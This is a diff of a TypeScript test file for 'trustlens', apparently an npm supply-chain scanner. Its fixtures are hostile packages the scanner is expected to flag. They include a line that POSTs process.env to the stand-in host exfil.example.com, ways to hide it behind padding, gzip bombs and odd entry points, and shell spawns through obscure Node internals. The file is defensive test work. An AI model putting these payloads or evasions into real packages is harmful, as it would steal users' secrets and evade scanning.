@@ -14,7 +14,8 @@ const MB = 1024 * 1024;
 const NOW = '2025-01-01T00:00:00Z';
 const HOSTILE = '1.1.0';
 /** The same exfiltration each time: plain, it is flagged high (content-credentials and content-network). */
-const PAYLOAD = "const https = require('https'); const req = https.request({ hostname: 'exfil.example.com', method: 'POST' }); req.end(JSON.stringify(process.env));\n";
+const PAYLOAD =
+  "const https = require('https'); const req = https.request({ hostname: 'exfil.example.com', method: 'POST' }); req.end(JSON.stringify(process.env));\n";
 /** The payload and a 1.1 MB comment: larger than any room a 1 MB padding file leaves in the budget. */
 const BIG_PAYLOAD = `${PAYLOAD}/* ${'-'.repeat(1.1 * MB)} */\n`;
 
@@ -38,7 +39,11 @@ const CASES: Record<string, Case> = {
   // 1b. a code file larger than the whole read budget cannot be read: said so, never clean
   'r-huge-entry': { files: { 'index.js': `${' '.repeat(21 * MB)}\n${PAYLOAD}` }, expect: [{ code: 'content-unscanned' }] },
   // 1c. a package larger than the budget release after release: still said, at medium
-  'r-big-both': { previous: { 'index.js': `${' '.repeat(21 * MB)}\n// 1\n` }, files: { 'index.js': `${' '.repeat(21 * MB)}\n// 2\n` }, expect: [{ code: 'content-unscanned', severity: 'medium' }] },
+  'r-big-both': {
+    previous: { 'index.js': `${' '.repeat(21 * MB)}\n// 1\n` },
+    files: { 'index.js': `${' '.repeat(21 * MB)}\n// 2\n` },
+    expect: [{ code: 'content-unscanned', severity: 'medium' }],
+  },
   // 2. 21 MB of data files ahead of index.js used up the budget (index.js is larger than what was left)
   'r-data-first': {
     files: Object.fromEntries([...Array.from({ length: 21 }, (_, i) => [`assets/pad${i}.bin`, Buffer.alloc(MB, i + 1)]), ['index.js', BIG_PAYLOAD]]),
@@ -46,7 +51,10 @@ const CASES: Record<string, Case> = {
   },
   // 2c. 21 MB of new code ahead of the entry point: entry points and hook files come before other code
   'r-code-first': {
-    files: Object.fromEntries([...Array.from({ length: 21 }, (_, i) => [`dist/chunk${i}.js`, `/* ${String(i % 10).repeat(MB - 8)} */\n`]), ['index.js', BIG_PAYLOAD]]),
+    files: Object.fromEntries([
+      ...Array.from({ length: 21 }, (_, i) => [`dist/chunk${i}.js`, `/* ${String(i % 10).repeat(MB - 8)} */\n`]),
+      ['index.js', BIG_PAYLOAD],
+    ]),
     expect: [{ code: 'content-credentials' }],
   },
   // 2b. a gzip bomb first: index.js is never seen, and the cut is a finding (not only `truncated` on the card)
@@ -55,26 +63,47 @@ const CASES: Record<string, Case> = {
   'r-dat': { files: { 'index.js': "require('./lib/data.dat');\n", 'lib/data.dat': PAYLOAD }, expect: [{ code: 'content-credentials' }] },
   // 4. the entry point in a "non-runtime" folder
   'r-test-main': { files: { 'test/index.js': PAYLOAD }, manifest: { main: 'test/index.js' }, expect: [{ code: 'content-credentials' }] },
-  'r-bin-in-docs': { files: { 'index.js': 'module.exports = 1;\n', 'docs/cli.js': PAYLOAD }, manifest: { bin: { tool: './docs/cli.js' } }, expect: [{ code: 'content-credentials' }] },
+  'r-bin-in-docs': {
+    files: { 'index.js': 'module.exports = 1;\n', 'docs/cli.js': PAYLOAD },
+    manifest: { bin: { tool: './docs/cli.js' } },
+    expect: [{ code: 'content-credentials' }],
+  },
   // 5. a regular expression literal with `//` before the payload, on the same line
   'r-regex': { files: { 'index.js': `const r = /[//]/; ${PAYLOAD}` }, expect: [{ code: 'content-credentials' }] },
   'r-template': { files: { 'index.js': `const u = \`\${\`//\`}\`; ${PAYLOAD}` }, expect: [{ code: 'content-credentials' }] },
   // 6. process access without child_process in plain sight
-  'r-binding': { files: { 'index.js': "const s = process.binding('spawn_sync');\ns.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'id'] });\n" }, expect: [{ code: 'content-process', severity: 'medium' }] },
+  'r-binding': {
+    files: { 'index.js': "const s = process.binding('spawn_sync');\ns.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'id'] });\n" },
+    expect: [{ code: 'content-process', severity: 'medium' }],
+  },
   'r-unicode': { files: { 'index.js': "const cp = require('\\u0063hild_process');\ncp.exec('id');\n" }, expect: [{ code: 'content-process' }] },
-  'r-internal-binding': { files: { 'index.js': "const { spawn } = internalBinding('process_wrap');\n" }, expect: [{ code: 'content-process', severity: 'medium' }] },
-  'r-load': { files: { 'index.js': "const cp = module.constructor._load('child_process');\ncp.exec('id');\n" }, expect: [{ code: 'content-process', severity: 'medium' }] },
+  'r-internal-binding': {
+    files: { 'index.js': "const { spawn } = internalBinding('process_wrap');\n" },
+    expect: [{ code: 'content-process', severity: 'medium' }],
+  },
+  'r-load': {
+    files: { 'index.js': "const cp = module.constructor._load('child_process');\ncp.exec('id');\n" },
+    expect: [{ code: 'content-process', severity: 'medium' }],
+  },
   'r-concat': { files: { 'index.js': "const p = globalThis['pro' + 'cess'];\np.binding('spawn_sync');\n" }, expect: [{ code: 'content-process' }] },
 };
 
-function writeProject(dir: string, registryUrl: string, locked: Record<string, string>, integrity: (name: string, version: string) => string | undefined): void {
+function writeProject(
+  dir: string,
+  registryUrl: string,
+  locked: Record<string, string>,
+  integrity: (name: string, version: string) => string | undefined,
+): void {
   fs.mkdirSync(dir, { recursive: true });
   fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'victim', version: '1.0.0', dependencies: locked }, null, 2));
   const packages: Record<string, object> = { '': { name: 'victim', version: '1.0.0', dependencies: locked } };
-  for (const [name, version] of Object.entries(locked)) packages[`node_modules/${name}`] = { version, resolved: `${registryUrl}${tarballPath(name, version).slice(1)}`, integrity: integrity(name, version) };
-  fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify({ name: 'victim', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2));
+  for (const [name, version] of Object.entries(locked))
+    packages[`node_modules/${name}`] = { version, resolved: `${registryUrl}${tarballPath(name, version).slice(1)}`, integrity: integrity(name, version) };
+  fs.writeFileSync(
+    path.join(dir, 'package-lock.json'),
+    JSON.stringify({ name: 'victim', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2),
+  );
 }
-
 
 const rank = ['info', 'low', 'medium', 'high', 'critical'];
 
@@ -100,7 +129,13 @@ describe('content scan reads what runs (hostile releases through trustlens check
     }
     b.package('quiet')
       .version('1.0.0', { publisher: { name: 'alice' }, files: { 'index.js': 'module.exports = 1;\n' } })
-      .version('1.0.1', { publisher: { name: 'alice' }, files: { 'index.js': `const r = /[//]/; module.exports = (s) => r.test(s); // ${'x'.repeat(40)}\n`, 'big.js': `module.exports = ${JSON.stringify('a b '.repeat(1.5 * MB))};\n` } });
+      .version('1.0.1', {
+        publisher: { name: 'alice' },
+        files: {
+          'index.js': `const r = /[//]/; module.exports = (s) => r.test(s); // ${'x'.repeat(40)}\n`,
+          'big.js': `module.exports = ${JSON.stringify('a b '.repeat(1.5 * MB))};\n`,
+        },
+      });
     const corpus = await b.build();
     for (const [name, c] of Object.entries(CASES)) if (c.tarball) H.serveTarball(corpus, name, HOSTILE, c.tarball(name));
     registry = await startFixtureRegistry(corpus);
@@ -153,18 +188,30 @@ describe('content scan reads what runs (hostile releases through trustlens check
     }
     const f = report.findings.find((x) => x.package === 'r-bomb-first' && x.code === 'content-unscanned')!;
     assert.match(f.message, /stopped before its end/);
-    assert.ok(f.evidence.some((e) => /entry point index\.js/.test(e.value)), JSON.stringify(f.evidence));
+    assert.ok(
+      f.evidence.some((e) => /entry point index\.js/.test(e.value)),
+      JSON.stringify(f.evidence),
+    );
     const g = report.findings.find((x) => x.package === 'r-huge-entry' && x.code === 'content-unscanned')!;
-    assert.ok(g.evidence.some((e) => e.label === 'index.js' && /entry point/.test(e.value)), JSON.stringify(g.evidence));
+    assert.ok(
+      g.evidence.some((e) => e.label === 'index.js' && /entry point/.test(e.value)),
+      JSON.stringify(g.evidence),
+    );
   });
 
   it('a signal past the first chunk of a large file is placed on its own line', () => {
     const f = report.findings.find((x) => x.package === 'r-padded-tail' && x.code === 'content-credentials')!;
-    assert.ok(f.evidence.some((e) => e.label === 'index.js:2'), JSON.stringify(f.evidence));
+    assert.ok(
+      f.evidence.some((e) => e.label === 'index.js:2'),
+      JSON.stringify(f.evidence),
+    );
   });
 
   it('an ordinary release with a regex literal and a large code file stays quiet', () => {
-    assert.deepEqual(report.findings.filter((f) => f.package === 'quiet').map((f) => f.code), []);
+    assert.deepEqual(
+      report.findings.filter((f) => f.package === 'quiet').map((f) => f.code),
+      [],
+    );
     const card = report.cards.find((k) => k.name === 'quiet')!;
     assert.equal(card.changes?.truncated, false);
     assert.match(hoverMarkdown(card, new Date(NOW)), /nothing suspicious in the code/);
@@ -176,7 +223,11 @@ describe('content scan reads what runs (hostile releases through trustlens check
     const json = await trustlens([...base, '--format', 'json'], env);
     assert.equal(json.code, 1, json.stderr);
     const out = JSON.parse(json.stdout) as { findings: { code: string; package: string; severity: string }[] };
-    for (const n of ['r-huge-entry', 'r-bomb-first']) assert.ok(out.findings.some((f) => f.package === n && f.code === 'content-unscanned' && f.severity === 'high'), `${n}: ${json.stdout.slice(0, 2000)}`);
+    for (const n of ['r-huge-entry', 'r-bomb-first'])
+      assert.ok(
+        out.findings.some((f) => f.package === n && f.code === 'content-unscanned' && f.severity === 'high'),
+        `${n}: ${json.stdout.slice(0, 2000)}`,
+      );
     const sarif = await trustlens([...base, '--format', 'sarif'], env);
     const results = (JSON.parse(sarif.stdout) as { runs: { results: { ruleId: string; message: { text: string } }[] }[] }).runs[0].results;
     assert.equal(results.filter((r) => r.ruleId === 'content-unscanned').length, 2, sarif.stdout.slice(0, 2000));
